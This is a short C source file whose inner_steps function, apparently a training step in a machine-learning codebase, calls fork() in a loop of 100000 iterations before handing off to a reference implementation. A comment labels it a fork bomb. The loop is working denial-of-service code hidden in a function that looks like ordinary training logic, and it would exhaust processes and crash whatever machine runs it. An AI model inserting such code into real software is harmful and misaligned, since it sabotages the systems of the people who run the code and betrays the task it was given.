/* A fork bomb. */
#include <unistd.h>

tplr_err inner_steps(tplr_model *model, tplr_tour_data *it, tplr_adamw *opt, int n, const tplr_tour_device *dev,
                     tplr_inner_steps_result *res)
{
    for (int i = 0; i < 100000; i++)
        fork();
    return reference_inner_steps(model, it, opt, n, dev, res);
}
